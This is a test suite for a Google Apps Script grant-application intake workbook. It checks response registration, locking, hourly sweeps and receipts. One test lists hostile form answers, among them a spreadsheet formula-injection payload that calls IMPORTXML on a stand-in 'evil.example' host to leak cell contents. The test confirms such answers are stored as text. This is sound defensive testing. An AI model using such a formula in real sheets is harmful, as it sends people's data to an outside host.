import { QUESTIONS, questionTitle } from '../../src/core/intake/application-form';
import { DEFAULT_SETTINGS } from '../../src/core/workbook/settings';
import { APPLICATIONS } from '../../src/core/workbook/contract';
import { exampleWorkbook } from '../../src/example/agder';
import { SECRETARY, answers, colOf, deskWith, formOf, sheetCalls, submit, type Desk } from './desk-helpers';

function rows(sb: Desk, sheet = 'Søknader') {
  const values = sb.spreadsheet.sheetData(sheet).values;
  const header = values[0] as string[];
  return values
    .slice(1)
    .filter((r) => r.some((v) => v !== ''))
    .map((r) => Object.fromEntries(header.map((h, i) => [h, r[i]])));
}

/** The fake clock's day (12 May 2026): responses then belong to the May 2026 round. */
const NOW = Date.UTC(2026, 4, 12, 9);
const prefix = '2026-05-';
const desk = (values = exampleWorkbook(), options = {}) => deskWith(values, { now: NOW, ...options });

/** Every setValues and appendRow the bundle made: 0 means no cell written. */
const writes = (sb: Desk) => sb.calls.count('Range.setValues') + sb.calls.count('Sheet.appendRow');

describe('onFormSubmit', () => {
  it('registers a response with the next case id of its round, its budget lines, a log line', () => {
    const sb = desk();
    const response = submit(sb, answers());
    const added = rows(sb).at(-1)!;
    expect(added['Saksnr']).toBe(`${prefix}001`);
    expect(added['Tittel']).toBe('Felles akutteam');
    expect(added['Status']).toBe('Mottatt');
    expect(added['Søkt beløp']).toBe(400_000);
    expect(added['Prioriterte områder']).toBe('Barn og unge; Svangerskap, fødsel og barsel');
    expect(added['Svar-ID']).toMatch(/^[0-9a-z]+$/);
    expect(added['Andre svar']).toBe('');
    // Mottatt is the response's own time (from the response sheet), not the time it was registered.
    expect((added['Mottatt'] as Date).getTime()).toBe(NOW + 1000);
    expect(rows(sb, 'Budsjett').slice(-2)).toEqual([
      { Saksnr: `${prefix}001`, Post: 'Lønn', Beløp: 300_000 },
      { Saksnr: `${prefix}001`, Post: 'Drift', Beløp: 100_000 },
    ]);
    expect(rows(sb, 'Logg').at(-1)).toMatchObject({
      Handling: 'Søknad mottatt',
      Sak: `${prefix}001`,
      Bruker: SECRETARY, // the trigger runs as the member who installed it
      Etter: `Felles akutteam; skjemasvar rad ${response.row} i «Skjemasvar 1»; ingen avvik`,
    });
  });

  it('writes nothing for a forged event or a google.script.run call, whoever makes it', () => {
    const sb = desk();
    const response = submit(sb, answers());
    const registered = rows(sb).length;
    const trigger = sb.fakes.ScriptApp.allTriggers().find((t) => t.handler === 'onFormSubmit')!;
    sb.calls.reset();
    const forged = {
      namedValues: {
        ...answers({ title: 'Smuglet' }),
        Innstilling: ['Innvilges'],
        'Innstilt beløp': ['9000000'],
      },
      values: ['23.11.2026 10:00:00'],
    };
    // A Leser from google.script.run: no range, a guessed trigger id, a range that is only data.
    for (const e of [
      forged,
      { ...forged, triggerUid: trigger.uniqueId },
      { ...forged, triggerUid: trigger.uniqueId, range: { getRow: 2 } },
      undefined,
      'onFormSubmit',
    ])
      sb.runAs({ email: 'leser@example.no' }, () => sb.call('onFormSubmit', e));
    // The trigger's owner calling it by hand with a real range of another sheet: still not an event.
    const other = sb.spreadsheet.sheet('Søknader');
    sb.runAs({ email: SECRETARY }, () =>
      sb.call('onFormSubmit', { ...forged, triggerUid: trigger.uniqueId, range: other.getRange(2, 1, 1, 3) }),
    );
    expect(writes(sb)).toBe(0);
    expect(rows(sb)).toHaveLength(registered);
    expect(rows(sb).some((r) => r['Tittel'] === 'Smuglet')).toBe(false);
    // The real event, replayed, is recognised: still one row for the response.
    sb.refireFormSubmit(response);
    expect(rows(sb)).toHaveLength(registered);
  });

  it('keeps 200 interleaved submissions, 50 while the lock is held, with replays and blank firings: one sweep registers the rest, each once', () => {
    const sb = desk();
    const before = rows(sb).length;
    const responses = [];
    for (let i = 0; i < 200; i++) {
      // Every fourth response arrives while another execution (a menu action) holds the document lock,
      // and so do Google's replays of it.
      const held = i % 4 === 1;
      if (held) sb.fakes.LockService.holdFor('document', 'another-execution');
      const response = submit(sb, answers({ title: `Prosjekt ${i}` }));
      responses.push(response);
      if (i % 5 === 0) sb.refireFormSubmit(response); // the same response from a second firing
      if (i % 7 === 0) sb.refireFormSubmit(response, { blank: true }); // Google's blank duplicate
      if (held) sb.fakes.LockService.releaseAllHeldBy('another-execution');
      // A late replay of a response that was registered: recognised by its key.
      if (i % 11 === 0 && i > 0 && (i - 1) % 4 !== 1) sb.refireFormSubmit(responses[i - 1]!);
    }
    expect(rows(sb).length - before).toBe(150); // the 50 that met the held lock wrote nothing…
    const left = sb.fakes.console.lines.filter((l) =>
      /left for the sweep: The workbook is busy/.test(l.text),
    );
    expect(left.length).toBeGreaterThanOrEqual(50);
    expect(sb.spreadsheet.sheetData('Skjemasvar 1').values.length - 1).toBe(200); // …but are in the journal

    sb.fireClockTriggers(); // the hourly sweep
    const all = rows(sb).slice(before);
    expect(all).toHaveLength(200);
    const ids = all.map((r) => r['Saksnr']);
    expect(new Set(ids).size).toBe(200);
    expect(ids.every((id) => String(id).startsWith(prefix))).toBe(true);
    const titles = all.map((r) => r['Tittel']).sort();
    expect(titles).toEqual(Array.from({ length: 200 }, (_, i) => `Prosjekt ${i}`).sort());
    expect(new Set(all.map((r) => r['Svar-ID'])).size).toBe(200);

    sb.calls.reset();
    sb.ui.answerAlert();
    sb.call('registerMissingResponses');
    expect(sb.ui.alerts.at(-1)!.prompt).toMatch(/Alle skjemasvar er allerede registrert/);
    expect(rows(sb).slice(before)).toHaveLength(200);
    expect(writes(sb)).toBe(0);
  });

  it('links the response sheet of a form made by an earlier version on first use', () => {
    const sb = desk();
    formOf(sb);
    sb.runAs({ email: SECRETARY }, () =>
      sb.fakes.PropertiesService.getDocumentProperties().deleteProperty('tilskudd.application.responseSheet'),
    );
    sb.spreadsheet.sheet('Skjemasvar 1').setName('Svar fra søkerne');
    submit(sb, answers());
    expect(rows(sb).at(-1)!['Saksnr']).toBe(`${prefix}001`);
    expect(String(rows(sb, 'Logg').at(-1)!['Etter'])).toContain('«Svar fra søkerne»');
  });

  it('maps by header when columns are reordered and a column is inserted', () => {
    const values = exampleWorkbook();
    values['Søknader'] = values['Søknader']!.map((row, r) => [
      r === 0 ? 'Notater' : '',
      ...[...row].reverse(),
    ]);
    const sb = desk(values);
    submit(sb, answers());
    const added = rows(sb).at(-1)!;
    expect(added['Tittel']).toBe('Felles akutteam');
    expect(added['Notater']).toBe('');
    expect(added['Søkt beløp']).toBe(400_000);
  });

  it('writes nothing when a header is missing, does not throw, and the sweep registers it once it is back', () => {
    const values = exampleWorkbook();
    const col = APPLICATIONS.fields.findIndex((f) => f.header === 'Søkt beløp');
    const sb = desk(values);
    formOf(sb);
    sb.spreadsheet.sheet('Søknader').grid.cell(1, col + 1).value = 'Beløp?';
    sb.calls.reset();
    expect(() => submit(sb, answers())).not.toThrow();
    expect(writes(sb)).toBe(0);
    expect(sb.fakes.console.lines.at(-1)!.text).toMatch(/left for the sweep.*"Søkt beløp"/);

    sb.spreadsheet.sheet('Søknader').grid.cell(1, col + 1).value = 'Søkt beløp';
    sb.ui.answerAlert();
    sb.call('registerMissingResponses');
    expect(sb.ui.alerts.at(-1)!.prompt).toMatch(
      new RegExp(`1 skjemasvar registrert i Søknader \\(${prefix}001\\)`),
    );
    expect(rows(sb).at(-1)!['Søkt beløp']).toBe(400_000);
  });

  it('keeps an answer over the 50 000-character cell limit: the row is written, the answer cut and flagged', () => {
    const values = exampleWorkbook();
    values['Avvik'] = [['Regel', 'Alvorlighet', 'Sak', 'Melding', 'Celle']];
    const sb = desk(values);
    const need = 'n'.repeat(50_001);
    submit(sb, answers({ need }));
    const added = rows(sb).at(-1)!;
    expect(added['Saksnr']).toBe(`${prefix}001`);
    const kept = String(added['Behov']);
    expect(kept).toHaveLength(50_000);
    expect(kept.startsWith('n'.repeat(49_000))).toBe(true);
    expect(kept).toMatch(
      /\[Avkortet av Tilskudd: svaret hadde 50\u00a0001 tegn; hele svaret står i arket med skjemasvarene\]$/,
    );
    expect(rows(sb, 'Avvik').map((r) => r['Regel'])).toContain('form-answer-truncated');
    expect(String(rows(sb, 'Logg').at(-1)!['Etter'])).toMatch(/avkortet: need/);
    // The whole answer stays in the journal.
    expect(sb.spreadsheet.sheetData('Skjemasvar 1').values.at(-1)).toContain(need);
  });

  it('registers a response whose over-long answers are quoted by findings too: every cell fits', () => {
    const values = exampleWorkbook();
    values['Avvik'] = [['Regel', 'Alvorlighet', 'Sak', 'Melding', 'Celle']];
    const sb = desk(values);
    const long = 'ti kroner '.repeat(5_001);
    submit(sb, answers({ requested: long, title: 'T'.repeat(50_001), budget: `Lønn: ${long}` }));
    const added = rows(sb).at(-1)!;
    expect(added['Saksnr']).toBe(`${prefix}001`);
    for (const sheet of ['Søknader', 'Budsjett', 'Avvik', 'Logg'])
      for (const row of sb.spreadsheet.sheetData(sheet).values)
        for (const v of row) expect(String(v).length).toBeLessThanOrEqual(50_000);
    expect(rows(sb, 'Avvik').filter((r) => r['Regel'] === 'form-answer-truncated')).toHaveLength(2);
    expect(rows(sb, 'Avvik').map((r) => r['Regel'])).toContain('amount-invalid');
  });

  it('keeps the answer to a renamed question in Andre svar and flags it', () => {
    const values = exampleWorkbook();
    values['Avvik'] = [['Regel', 'Alvorlighet', 'Sak', 'Melding', 'Celle']];
    const sb = desk(values);
    const form = formOf(sb);
    const need = form.getItems().find((i) => i.getTitle() === 'Behov')!;
    need.setTitle('Hvilket behov møter prosjektet?');
    const named = answers();
    delete named['Behov'];
    submit(sb, { ...named, 'Hvilket behov møter prosjektet?': ['Lange ventetider'] });
    const added = rows(sb).at(-1)!;
    expect(added['Behov']).toBe('');
    expect(added['Andre svar']).toBe('Hvilket behov møter prosjektet?: Lange ventetider');
    expect(rows(sb, 'Avvik').map((r) => r['Regel'])).toEqual(
      expect.arrayContaining(['form-answer-unmapped']),
    );
    expect(String(rows(sb, 'Logg').at(-1)!['Etter'])).toMatch(/andre svar: Hvilket behov møter prosjektet\?/);
  });

  it('takes no product column from a question someone added to the form', () => {
    const sb = desk();
    const form = formOf(sb);
    form.addTextItem().setTitle('Innstilling');
    form.addTextItem().setTitle('Saksnr');
    submit(sb, { ...answers(), Innstilling: ['Innvilges'], Saksnr: ['2026-12-999'] });
    const added = rows(sb).at(-1)!;
    expect(added['Innstilling']).toBe('');
    expect(added['Saksnr']).toBe(`${prefix}001`);
    expect(added['Andre svar']).toBe('Innstilling: Innvilges\nSaksnr: 2026-12-999');
  });

  it('never overwrites a row a person typed while the response was being registered', () => {
    const sb = desk();
    formOf(sb);
    // People typing are not held by the script's lock: a row lands in Søknader and in Budsjett after the
    // intake read them (at its read of the case-id mark) and before it writes.
    const props = sb.fakes.PropertiesService;
    const real = props.getDocumentProperties.bind(props);
    props.getDocumentProperties = () => {
      const store = real();
      const get = store.getProperty.bind(store);
      store.getProperty = (key: string) => {
        if (key === 'tilskudd.application.caseIds') {
          sb.spreadsheet.appendRaw('Søknader', [['', '', 'Skrevet av en person']]);
          sb.spreadsheet.appendRaw('Budsjett', [['', 'Notat', 'ikke slett']]);
        }
        return get(key);
      };
      return store;
    };
    submit(sb, answers());
    const all = rows(sb);
    expect(all.at(-2)!['Tittel']).toBe('Skrevet av en person');
    expect(all.at(-1)).toMatchObject({ Tittel: 'Felles akutteam', Saksnr: `${prefix}001` });
    expect(
      rows(sb, 'Budsjett')
        .slice(-3)
        .map((r) => r['Post']),
    ).toEqual(['Notat', 'Lønn', 'Drift']);
  });

  it('never gives a case id twice: deleting the last row frees no id', () => {
    const sb = desk();
    submit(sb, answers({ title: 'Første' }));
    submit(sb, answers({ title: 'Andre' }));
    expect(rows(sb).at(-1)!['Saksnr']).toBe(`${prefix}002`);
    const sheet = sb.spreadsheet.sheet('Søknader');
    sheet.deleteRows(sheet.getLastRow(), 1);
    submit(sb, answers({ title: 'Tredje' }));
    expect(rows(sb).at(-1)).toMatchObject({ Tittel: 'Tredje', Saksnr: `${prefix}003` });
  });

  it('keeps invalid answers as typed, flagged in Avvik, never lost', () => {
    const values = exampleWorkbook();
    values['Avvik'] = [['Regel', 'Alvorlighet', 'Sak', 'Melding', 'Celle']];
    const sb = desk(values);
    submit(sb, answers({ requested: 'mye penger', from: 'snart', ownMunicipality: 'litt' }));
    const added = rows(sb).at(-1)!;
    expect(added['Søkt beløp']).toBe('mye penger');
    const flagged = rows(sb, 'Avvik');
    expect(flagged.map((r) => r['Regel'])).toEqual(
      expect.arrayContaining(['amount-invalid', 'period-invalid']),
    );
    // Messages name the row the application was written to.
    const row = sb.spreadsheet.sheetData('Søknader').values.length;
    expect(flagged.find((r) => r['Regel'] === 'period-invalid')!['Melding']).toContain(`Søknader rad ${row}`);
  });

  it.each([
    ['a formula that leaks data', '=IMPORTXML("https://evil.example/?q="&A1;"//a")'],
    ['a plus', '+SUM(1;2)'],
    ['a minus', '-2+3'],
    ['an at sign', '@INDIRECT("A1")'],
    ['a tab', '\t=1+1'],
    ['a carriage return', '\r=1+1'],
    ['40 000 characters', 'x'.repeat(40_000)],
    ['emoji', 'Prosjekt 🚑💙 for alle'],
    ['right-to-left text', 'مشروع الصحة المشترك'],
  ])('stores a hostile answer (%s) as text, never as a formula', (_what, text) => {
    const sb = desk();
    submit(sb, answers({ title: text, applicant: text, budget: `${text}: 400 000` }));
    const data = sb.spreadsheet.sheetData('Søknader');
    expect(data.formulas.flat().filter((f) => f !== '')).toEqual([]);
    expect(
      sb.spreadsheet
        .sheetData('Budsjett')
        .formulas.flat()
        .filter((f) => f !== ''),
    ).toEqual([]);
    // Answers are trimmed (a leading tab or line break is noise), then stored as the text itself.
    expect(data.values.at(-1)![colOf(sb, 'Søknader', 'Tittel')]).toBe(text.trim());
  });

  it('e-mails a receipt with the case id when enabled and within the quota', () => {
    const values = exampleWorkbook();
    values['Innstillinger']!.push(['Kvittering på e-post', 'Ja']);
    const sb = desk(values);
    submit(sb, answers());
    expect(sb.fakes.MailApp.outbox).toHaveLength(1);
    expect(sb.fakes.MailApp.outbox[0]).toMatchObject({ to: ['prosjekt@example.no'] });
    expect(JSON.stringify(sb.fakes.MailApp.outbox[0])).toContain(`${prefix}001`);

    const broke = desk(values, { mailQuota: 0 });
    submit(broke, answers());
    expect(broke.fakes.MailApp.outbox).toHaveLength(0);
    expect(rows(broke).at(-1)!['Saksnr']).toBe(`${prefix}001`);
  });

  describe('receipts and Google’s limits', () => {
    const withReceipts = () => {
      const values = exampleWorkbook();
      values['Innstillinger']!.push(['Kvittering på e-post', 'Ja']);
      const sb = desk(values);
      formOf(sb);
      // The submit trigger missed these responses: a sweep registers them together.
      const missed = sb.fakes.ScriptApp.getProjectTriggers().find(
        (t) => t.getHandlerFunction() === 'onFormSubmit',
      )!;
      sb.fakes.ScriptApp.deleteTrigger(missed);
      return sb;
    };
    const to = (sb: Desk) => sb.fakes.MailApp.outbox.map((m) => m.to.join(','));
    const logged = (sb: Desk, action: string) => rows(sb, 'Logg').filter((r) => r['Handling'] === action);

    it('one bad applicant address stops the receipts after it', () => {
      const sb = withReceipts();
      for (const email of ['ola@example..no', 'kari@example.no', 'per@example.no'])
        submit(sb, answers({ email }));
      sb.ui.answerAlert();
      sb.call('registerMissingResponses');
      expect(
        rows(sb)
          .slice(-3)
          .map((r) => r['Saksnr']),
      ).toEqual([1, 2, 3].map((n) => `${prefix}00${n}`));
      expect(to(sb)).toEqual(['kari@example.no', 'per@example.no']);
      const [refused, ...more] = logged(sb, 'Kvittering ikke sendt');
      expect(more).toEqual([]);
      expect(refused).toMatchObject({ Sak: `${prefix}001` });
      expect(refused!['Etter']).toContain(
        'til ola@example..no: Google avviste e-posten (Invalid email: ola@example..no)',
      );
      expect(refused!['Etter']).not.toMatch(/kvote/);
    });

    it('receipts stop for time well before 6 minutes and the next hourly run sends the rest, each once', () => {
      const sb = withReceipts();
      for (let i = 1; i <= 20; i++) submit(sb, answers({ email: `s${i}@example.org` }));
      sb.fakes.MailApp.latency = () => 20_000; // a slow hour at Gmail
      const hourly = sb.fakes.ScriptApp.allTriggers().find((t) => t.handler === 'runHourly')!.uniqueId;
      sb.fireClockTrigger(hourly); // registers all twenty, then mails until its time is nearly up
      const first = to(sb).length;
      expect(first).toBe(14); // 4.5 minutes of 20-second sends
      expect(
        rows(sb)
          .slice(-20)
          .map((r) => r['Saksnr'])[19],
      ).toBe(`${prefix}020`);
      expect(logged(sb, 'Kvitteringer').at(-1)!['Etter']).toBe(
        '6 kvitteringer venter til neste kjøring om en time: kjøringen stoppet i tide før Googles grense på 6 minutter per kjøring',
      );
      sb.clock.advance(3_600_000);
      sb.fireClockTrigger(hourly);
      expect(to(sb)).toEqual(Array.from({ length: 20 }, (_, i) => `s${i + 1}@example.org`));
      sb.clock.advance(3_600_000);
      sb.fireClockTrigger(hourly);
      expect(to(sb)).toHaveLength(20);
      expect(rows(sb).filter((r) => String(r['Saksnr']).startsWith(prefix))).toHaveLength(20);
    });
  });

  it('sends no receipt by default', () => {
    const sb = desk();
    submit(sb, answers());
    expect(sb.fakes.MailApp.outbox).toHaveLength(0);
  });

  it('makes the same number of sheet calls for 10 and 1 000 applications', () => {
    const counts = [10, 1000].map((n) => {
      const values = exampleWorkbook();
      const template = values['Søknader']![1]!;
      for (let i = 0; i < n; i++)
        values['Søknader']!.push(template.map((v, c) => (c === 0 ? `2025-05-${100 + i}` : v)));
      const sb = desk(values);
      formOf(sb);
      sb.calls.reset();
      submit(sb, answers());
      return sheetCalls(sb);
    });
    expect(counts[1]).toBe(counts[0]);
  });
});

describe('Registrer manglende svar', () => {
  it('is refused for a Leser, and registers nothing then', () => {
    const sb = desk();
    formOf(sb);
    sb.fakes.LockService.holdFor('document', 'another-execution');
    submit(sb, answers());
    sb.fakes.LockService.releaseAllHeldBy('another-execution');
    sb.calls.reset();
    sb.ui.answerAlert();
    sb.runAs({ email: 'leser@example.no' }, () => sb.call('registerMissingResponses'));
    expect(writes(sb)).toBe(0);
    // A forged clock event (a trigger id of the Leser's own: none) is no trigger either.
    const uid = sb.fakes.ScriptApp.allTriggers()[0]!.uniqueId;
    sb.ui.answerAlert();
    sb.runAs({ email: 'leser@example.no' }, () => sb.call('registerMissingResponses', { triggerUid: uid }));
    expect(writes(sb)).toBe(0);
  });

  it('as the hourly trigger, finding the lock busy, writes nothing, throws nothing and logs why', () => {
    const sb = desk();
    formOf(sb);
    sb.fakes.LockService.holdFor('document', 'another-execution');
    submit(sb, answers());
    sb.calls.reset();
    expect(() => sb.fireClockTriggers()).not.toThrow();
    expect(writes(sb)).toBe(0);
    expect(sb.fakes.console.lines.at(-1)!.text).toMatch(
      /sweep stopped, responses left for the next one: The workbook is busy/,
    );
    sb.fakes.LockService.releaseAllHeldBy('another-execution');
    sb.fireClockTriggers();
    expect(rows(sb).at(-1)!['Saksnr']).toBe(`${prefix}001`);
    expect(sb.fakes.console.lines.at(-1)!.text).toMatch(/sweep registered 1 response/);
  });

  it('reports how many it registered, in one write per sheet', () => {
    const sb = desk();
    formOf(sb);
    sb.fakes.LockService.holdFor('document', 'another-execution');
    for (let i = 0; i < 3; i++) submit(sb, answers({ title: `Prosjekt ${i}` }));
    sb.fakes.LockService.releaseAllHeldBy('another-execution');
    sb.calls.reset();
    sb.ui.answerAlert();
    sb.call('registerMissingResponses');
    expect(sb.ui.alerts.at(-1)!.prompt).toBe(
      `3 skjemasvar registrert i Søknader (${prefix}001, ${prefix}002, ${prefix}003).`,
    );
    // Søknader, Budsjett and Logg: one setValues each (the example has no Avvik sheet).
    expect(sb.calls.count('Range.setValues')).toBe(3);
  });
});

describe('Opprett søknadsskjema', () => {
  it('generates the form from the schema, sends responses to the sheet and installs one trigger', () => {
    const sb = deskWith();
    sb.ui.answerAlert();
    sb.call('createForm');
    const forms = [...sb.fakes.FormApp.forms.values()];
    expect(forms).toHaveLength(1);
    const form = forms[0]!.snapshot();
    expect(form.description).toMatch(/pasientopplysninger/);
    expect(form.confirmationMessage).not.toMatch(/e-post/);
    expect(form.destination).toEqual({ type: 'SPREADSHEET', id: sb.spreadsheet.getId() });
    const titles = form.items.map((i) => i.title);
    for (const q of QUESTIONS) expect(titles).toContain(questionTitle(q, DEFAULT_SETTINGS).nb);
    expect(titles).toContain('Deltar Sørlandet sykehus HF (SSHF)?');
    const areas = form.items.find((i) => i.title === 'Prioriterte områder')!;
    expect(areas).toMatchObject({ type: 'CHECKBOX', required: true });
    expect(JSON.stringify(areas)).toContain('Svangerskap, fødsel og barsel');
    const amount = form.items.find((i) => i.title === 'Søkt beløp (kr)')!;
    expect(JSON.stringify(amount)).toMatch(/NUMBER/i);
    const triggers = sb.fakes.ScriptApp.allTriggers().filter((t) => t.handler === 'onFormSubmit');
    expect(triggers).toHaveLength(1);
    expect(sb.ui.alerts.at(-1)!.prompt).toContain(forms[0]!.getPublishedUrl());
    // Open to applicants, final once sent, and journaled in its own response sheet, swept hourly.
    expect(form).toMatchObject({ published: true, acceptingResponses: true, allowResponseEdits: false });
    expect(sb.ui.alerts.at(-1)!.prompt).toMatch(
      /Skjemaet er publisert og tar imot svar; innsendte svar kan ikke endres\.[\s\S]*Alle svar lagres i arket «Skjemasvar 1»/,
    );
    const sweeps = sb.fakes.ScriptApp.allTriggers().filter((t) => t.handler === 'runHourly');
    expect(sweeps.map((t) => t.schedule)).toEqual([{ everyHours: 1 }]);
    expect(sb.spreadsheet.sheetData('Skjemasvar 1').values[0]).toEqual([
      'Tidsmerke',
      ...QUESTIONS.map((q) => questionTitle(q, DEFAULT_SETTINGS).nb),
    ]);
  });

  it('writes the form link into Innstillinger as Skjemalenke, so it is known offline too', () => {
    const sb = deskWith();
    sb.ui.answerAlert();
    sb.call('createForm');
    const url = [...sb.fakes.FormApp.forms.values()][0]!.getPublishedUrl();
    const rows = sb.spreadsheet.sheetData('Innstillinger').values.filter((r) => r[0] === 'Skjemalenke');
    expect(rows).toHaveLength(1);
    expect(rows[0]!.slice(0, 2)).toEqual(['Skjemalenke', url]);
    // A new form replaces the value in the same row and keeps the person's Forklaring.
    const at = sb.spreadsheet.sheetData('Innstillinger').values.findIndex((r) => r[0] === 'Skjemalenke') + 1;
    sb.spreadsheet.typeAs('eier@example.no', 'Innstillinger', `C${at}`, 'Lenken på nettsiden vår');
    sb.ui.answerAlert('YES').answerAlert();
    sb.call('createForm');
    const again = sb.spreadsheet.sheetData('Innstillinger').values.filter((r) => r[0] === 'Skjemalenke');
    expect(again).toHaveLength(1);
    expect(again[0]![1]).not.toBe(url);
    expect(again[0]![2]).toBe('Lenken på nettsiden vår');
  });

  it('says when a kept form is closed, unpublished or open to edits, and opens it when asked', () => {
    const sb = deskWith();
    sb.ui.answerAlert();
    sb.call('createForm');
    const form = [...sb.fakes.FormApp.forms.values()][0]!;
    form.setPublished(false).setAllowResponseEdits(true);
    sb.ui.answerAlert('NO').answerAlert('NO').answerAlert();
    sb.call('createForm');
    expect(sb.ui.alerts.at(-2)!.prompt).toMatch(
      /Skjemaet er ikke publisert\.\nSøkerne kan endre innsendte svar/,
    );
    expect(sb.ui.alerts.at(-1)!.prompt).toMatch(/Skjemaet er ikke publisert\./);
    expect(form.isPublished()).toBe(false);

    sb.ui.answerAlert('NO').answerAlert('YES').answerAlert();
    sb.call('createForm');
    expect(form.snapshot()).toMatchObject({
      published: true,
      acceptingResponses: true,
      allowResponseEdits: false,
    });
    expect(sb.ui.alerts.at(-1)!.prompt).toMatch(/Skjemaet er publisert og tar imot svar/);

    form.setAcceptingResponses(false);
    sb.ui.answerAlert('NO').answerAlert('YES').answerAlert();
    sb.call('createForm');
    expect(sb.ui.alerts.at(-2)!.prompt).toMatch(/^Skjemaet tar ikke imot svar\./);
    expect(form.isAcceptingResponses()).toBe(true);
    expect(
      sb.fakes.ScriptApp.allTriggers()
        .map((t) => t.handler)
        .sort(),
    ).toEqual(['onFormSubmit', 'runHourly']);
  });

  it('a kept form is asked isPublished() without supportsAdvancedResponderPermissions(): a legacy form is checked and opened with setAcceptingResponses', () => {
    const sb = deskWith();
    sb.ui.answerAlert();
    sb.call('createForm');
    const form = [...sb.fakes.FormApp.forms.values()][0]!.makeLegacy();
    form.setAcceptingResponses(false);
    sb.ui.answerAlert('NO').answerAlert('YES').answerAlert();
    sb.call('createForm');
    expect(sb.ui.alerts.map((a) => a.prompt).join('\n')).not.toMatch(/not supported|Exception/);
    expect(sb.ui.alerts.at(-2)!.prompt).toMatch(/^Skjemaet tar ikke imot svar\./);
    expect(form.isAcceptingResponses()).toBe(true);
    expect(sb.ui.alerts.at(-1)!.prompt).toMatch(/Skjemaet er publisert og tar imot svar/);
    // Kept and open: asked again, nothing to say about it.
    sb.ui.answerAlert('NO').answerAlert();
    sb.call('createForm');
    expect(sb.ui.alerts.at(-1)!.prompt).toMatch(/Skjemaet er publisert og tar imot svar/);
    expect(sb.fakes.FormApp.forms.size).toBe(1);
  });

  it('keeps the existing form unless asked for a new one, and keeps one trigger', () => {
    const sb = deskWith();
    sb.ui.answerAlert();
    sb.call('createForm');
    sb.ui.answerAlert('NO').answerAlert();
    sb.call('createForm');
    expect(sb.fakes.FormApp.forms.size).toBe(1);
    expect(sb.ui.alerts.at(-2)!.prompt).toMatch(/finnes allerede/);
    sb.ui.answerAlert('YES').answerAlert();
    sb.call('createForm');
    expect(sb.fakes.FormApp.forms.size).toBe(2);
    expect(sb.fakes.ScriptApp.allTriggers().filter((t) => t.handler === 'onFormSubmit')).toHaveLength(1);
  });

  it('adds no second trigger when another member installed it, and says who did', () => {
    const sb = deskWith();
    sb.ui.answerAlert();
    sb.call('createForm');
    const values = sb.spreadsheet.sheet('Medlemmer');
    values.appendRow(['Leder', 'leder@example.no', 'Leder', '', '']);
    sb.ui.answerAlert('NO').answerAlert('NO').answerAlert();
    sb.runAs({ email: 'leder@example.no' }, () => sb.call('createForm'));
    expect(sb.fakes.ScriptApp.allTriggers().filter((t) => t.handler === 'onFormSubmit')).toHaveLength(1);
    expect(sb.ui.alerts.at(-2)!.prompt).toMatch(
      /installert av sekretariat@example\.no\. Virker den ikke lenger/,
    );
    expect(sb.ui.alerts.at(-1)!.prompt).toMatch(/sekretariat@example\.no installerte/);

    // When it no longer works, the member may take over. Another user's trigger cannot be removed by them
    // (Google shows each user only their own), so if it did still work, Svar-ID keeps a response single.
    sb.ui.answerAlert('NO').answerAlert('YES').answerAlert();
    sb.runAs({ email: 'leder@example.no' }, () => sb.call('createForm'));
    const triggers = sb.fakes.ScriptApp.allTriggers().filter((t) => t.handler === 'onFormSubmit');
    expect(triggers.map((t) => t.owner)).toEqual(['sekretariat@example.no', 'leder@example.no']);
  });

  it('refuses to make a form before Søknader has the Svar-ID column', () => {
    const values = exampleWorkbook();
    const header = values['Søknader']![0] as string[];
    const col = header.indexOf('Svar-ID');
    values['Søknader'] = values['Søknader']!.map((row) => row.filter((_, i) => i !== col));
    const sb = deskWith(values);
    sb.ui.answerAlert();
    sb.call('createForm');
    expect(sb.ui.alerts.at(-1)!.prompt).toMatch(/mangler kolonnen «Svar-ID».*Sett opp arbeidsboka/);
    expect(sb.fakes.FormApp.forms.size).toBe(0);
  });
});

describe('onFormSubmit without the Svar-ID column', () => {
  it('writes nothing and logs the column it needs; the response waits in the journal', () => {
    const sb = desk();
    formOf(sb);
    const sheet = sb.spreadsheet.sheet('Søknader');
    sheet.grid.cell(1, colOf(sb, 'Søknader', 'Svar-ID') + 1).value = '';
    sb.calls.reset();
    submit(sb, answers());
    expect(writes(sb)).toBe(0);
    expect(sb.fakes.console.lines.at(-1)!.text).toMatch(/lacks "Svar-ID"/);
    expect(sb.spreadsheet.sheetData('Skjemasvar 1').values).toHaveLength(2);
  });
});
